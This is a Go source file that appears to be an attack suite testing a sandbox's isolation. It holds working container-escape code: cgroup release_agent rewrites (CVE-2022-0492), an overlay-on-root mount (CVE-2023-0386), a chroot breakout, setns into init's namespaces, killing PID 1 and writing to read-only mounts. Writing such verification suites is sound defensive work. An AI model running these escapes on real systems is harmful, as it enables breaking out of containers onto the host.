package attacker

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

const ownKernel = "namespaces that are made inside are the inner kernel's: what they show is no more of the host"

// inside returns an attack by a tool that is root of namespaces of its own. The tool's
// output is evidence.
func inside(id, how, source, tool string, flags ...uintptr) Attack {
	return Attack{ID: id, How: how, Defence: ownKernel, Source: source, Judge: ByToken,
		Control: func(e *Env) error { return e.tool(asRoot(flags...), "nothing") },
		Try:     func(e *Env) error { return e.tool(asRoot(flags...), tool, e.Secret, e.ReadOnly) }}
}

func namespaces() []Attack {
	return family("namespaces", "S1",
		inside("unmount-everything", "As root of a namespace, unmount everything, to see what lies below.", "", "umount-all"),
		inside("bind-root", "Bind the root elsewhere, recursively, and look there.", "", "bind-root"),
		inside("proc-again", "Mount another /proc, and go through its processes' roots.", "", "proc-again", syscall.CLONE_NEWPID),
		inside("sys-again", "Mount sysfs, cgroup, debugfs, tracefs, securityfs, bpf and devtmpfs.", "CVE-2022-0492 (release_agent)", "sys-again"),
		inside("overlay", "Mount an overlay with the root as its lower layer.", "CVE-2023-0386", "overlay"),
		inside("plan-9", "Mount a 9p file system on descriptors that may lead to the gofer.", "", "plan9"),
		inside("disk-images", "Mount disks and images through the kernel's file system drivers.", "", "disks"),
		inside("chroot", "Leave a chroot in the way that works where a directory outside is open.", "", "chroot"),
		inside("pivot", "Change the root with pivot_root and look into the old one.", "", "pivot"),
		inside("enter-init", "Enter the namespaces of process 1 as root of one's own.", "", "enter-init"),
		Attack{ID: "remount-writable", How: "Remount a read-only mount writable, as root of a namespace, and write to it.", Defence: "the gofer opened it read-only, whatever the kernel inside believes", Judge: ByHost,
			Control: func(e *Env) error { return e.read(e.ReadOnly + "/given") },
			Try:     func(e *Env) error { return e.tool(asRoot(), "remount", e.ReadOnly) }},
		Attack{ID: "raw-sockets", How: "Open raw and packet sockets as root of a namespace, on the bottle's own card.", Defence: "rights over the card belong to the namespace that it is in", Judge: ByWord,
			Control: func(e *Env) error { return e.tool(asRoot(), "nothing") },
			Try:     func(e *Env) error { return e.tool(asRoot(), "raw-socket") }},
		Attack{ID: "nested", How: "Nest user namespaces thirty deep, for each of which a kernel must keep account.", Defence: "depth is bounded, and each is the inner kernel's", Judge: ByToken,
			Control: func(e *Env) error { return e.tool(asRoot(), "nothing") },
			Try:     func(e *Env) error { return e.tool(asRoot(), "nest", "30", e.Secret) }},
	)
}

// toolOf finds a tool. They run as processes of their own, some as root of a namespace.
func toolOf(name string) func(args []string) error {
	return map[string]func(args []string) error{
		"nothing":      func([]string) error { return nil },
		"attempt":      attempt,
		"touch":        touchNetwork,
		"kill-init":    func([]string) error { return unix.Kill(1, unix.SIGKILL) },
		"ptrace":       tracePID,
		"make-devices": makeDevices,
		"umount-all":   umountAll,
		"bind-root": func(a []string) error {
			return mountAnd("/tmp/r", "/", "", unix.MS_BIND|unix.MS_REC, "", "/tmp/r"+a[0])
		},
		"proc-again": procAgain,
		"sys-again":  sysAgain,
		"overlay": func(a []string) error {
			for _, d := range []string{"/tmp/u", "/tmp/w"} {
				os.MkdirAll(d, 0o755)
			}
			return mountAnd("/tmp/o", "none", "overlay", 0, "lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w", "/tmp/o"+a[0])
		},
		"plan9":        plan9,
		"disks":        mountDisks,
		"chroot":       leaveChroot,
		"pivot":        pivot,
		"enter-init":   enterInit,
		"remount":      remount,
		"nest":         nest,
		"raw-socket":   rawSocket,
		"touch-memory": touchMemory,
		"open-files":   floodFiles,
		"make-inodes":  floodInodes,
		"fill-pipes":   floodPipes,
		"spawn":        floodProcesses,
		"sparse":       sparseFile,
		"storm":        storm,
		"long-exec":    longExec,
		"vandal":       vandal,
		"commits":      commits,
		"deep":         deepTree,
		"network":      func([]string) error { return changeNetwork() },
		"ask-names":    askNames,
		"reach":        reachAll,
		"reach-unix":   reachUnix,
		"trickster":    trickster,
	}[name]
}

// print prints a file's content.
func print(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	os.Stdout.Write(b)
	return nil
}

func mountAnd(dir, src, kind string, flags uintptr, data, file string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return cannot("%v", err)
	}
	if err := unix.Mount(src, dir, kind, flags, data); err != nil {
		return err
	}
	return print(file)
}

func umountAll(a []string) error {
	b, err := os.ReadFile("/proc/self/mounts")
	if err != nil {
		return cannot("%v", err)
	}
	var errs []error
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	for i := len(lines) - 1; i >= 0; i-- {
		if f := strings.Fields(lines[i]); len(f) > 1 {
			errs = append(errs, unix.Unmount(f[1], unix.MNT_DETACH))
		}
	}
	return errors.Join(append(errs, print(a[0]))...)
}

func procAgain(a []string) error {
	if err := os.MkdirAll("/tmp/p", 0o755); err != nil {
		return cannot("%v", err)
	}
	if err := unix.Mount("proc", "/tmp/p", "proc", 0, ""); err != nil {
		return err
	}
	var errs []error
	ents, err := os.ReadDir("/tmp/p")
	for _, e := range ents {
		errs = append(errs, print("/tmp/p/"+e.Name()+"/root"+a[0]))
	}
	return errors.Join(append(errs, err)...)
}

func sysAgain(a []string) error {
	var errs []error
	got := false
	for i, kind := range []string{"sysfs", "cgroup", "cgroup2", "debugfs", "tracefs", "securityfs", "bpf", "devtmpfs", "configfs", "pstore", "efivarfs", "mqueue", "hugetlbfs"} {
		dir := fmt.Sprintf("/tmp/s%d", i)
		os.MkdirAll(dir, 0o755)
		if err := unix.Mount("x", dir, kind, 0, ""); err != nil {
			errs = append(errs, fmt.Errorf("%s: %w", kind, err))
			continue
		}
		for _, f := range []string{"/release_agent", "/kernel/uevent_helper", "/vda", "/tracing/trace"} {
			if rewrite(dir+f) == nil {
				got = true
			}
		}
	}
	if got {
		os.Stdout.WriteString("wrote to a file system of the host's kernel\n")
		return print(a[0])
	}
	return errors.Join(append(errs, errors.New("nothing of the host's"))...)
}

func plan9(a []string) error {
	var errs []error
	for fd := range 32 {
		err := mountAnd("/tmp/n", "none", "9p", 0, fmt.Sprintf("trans=fd,rfdno=%d,wfdno=%d", fd, fd), "/tmp/n"+a[0])
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

func mountDisks(a []string) error {
	var errs []error
	for _, kind := range []string{"ext4", "xfs", "btrfs", "squashfs", "iso9660", "fuse", "nfs", "cifs", "virtiofs"} {
		for _, src := range []string{"/dev/vda1", "/dev/sda1", a[1] + "/given"} {
			err := mountAnd("/tmp/d", src, kind, 0, "", "/tmp/d"+a[0])
			if err == nil {
				return nil
			}
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}

// leaveChroot tries to leave a chroot by a directory outside that it kept open.
func leaveChroot(a []string) error {
	os.MkdirAll("/tmp/c", 0o755)
	out, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return cannot("%v", err)
	}
	if err := unix.Chroot("/tmp/c"); err != nil {
		return err
	}
	if err := unix.Fchdir(out); err != nil {
		return err
	}
	for range 64 {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return print(a[0])
}

func pivot(a []string) error {
	const dir = "/tmp/v"
	os.MkdirAll(dir, 0o755)
	if err := unix.Mount("x", dir, "tmpfs", 0, ""); err != nil {
		return err
	}
	os.MkdirAll(dir+"/old", 0o755)
	if err := unix.PivotRoot(dir, dir+"/old"); err != nil {
		return err
	}
	unix.Chdir("/")
	return errors.Join(print("/old"+a[0]), print("/old/../"+a[0]))
}

func enterInit(a []string) error {
	var errs []error
	for _, ns := range []string{"mnt", "net", "pid", "ipc", "uts"} {
		fd, err := unix.Open("/proc/1/ns/"+ns, unix.O_RDONLY, 0)
		if err == nil {
			err = unix.Setns(fd, 0)
		}
		errs = append(errs, err)
	}
	return errors.Join(append(errs, print(a[0]))...)
}

func remount(a []string) error {
	dir := a[0]
	var errs []error
	for _, flags := range []uintptr{unix.MS_REMOUNT | unix.MS_BIND, unix.MS_REMOUNT} {
		errs = append(errs, unix.Mount("none", dir, "", flags, ""))
	}
	os.MkdirAll("/tmp/again", 0o755)
	errs = append(errs, unix.Mount(dir, "/tmp/again", "", unix.MS_BIND, ""), unix.Mount("none", "/tmp/again", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	wrote := false
	for _, f := range []string{dir + "/planted", dir + "/given", "/tmp/again/planted", "/tmp/again/given"} {
		err := os.WriteFile(f, []byte("owned"), 0o644)
		wrote = wrote || err == nil
		errs = append(errs, err)
	}
	if wrote {
		return nil
	}
	return errors.Join(errs...)
}

// nest prints a file and goes one namespace deeper. It does not wait for the next process:
// thirty of them take more memory than a bottle has.
func nest(a []string) error {
	var n int
	fmt.Sscan(a[0], &n)
	if err := print(a[1]); err == nil || n == 0 {
		return err
	}
	c := exec.Command(Path, "nest", fmt.Sprint(n-1), a[1])
	c.SysProcAttr, c.Stdout, c.Stderr = asRoot(), os.Stdout, os.Stderr
	if err := c.Start(); err != nil {
		return cannot("start the process of level %d: %v", n-1, err)
	}
	return nil
}

func tracePID(a []string) error {
	var pid int
	fmt.Sscan(a[0], &pid)
	return traceProcess(nil, pid)
}

func makeDevices([]string) error {
	err := makeAndOpen("/tmp/ndisk", unix.S_IFBLK, 254, 0)
	if err == nil {
		return nil
	}
	return errors.Join(err, makeAndOpen("/tmp/nmem", unix.S_IFCHR, 1, 1))
}
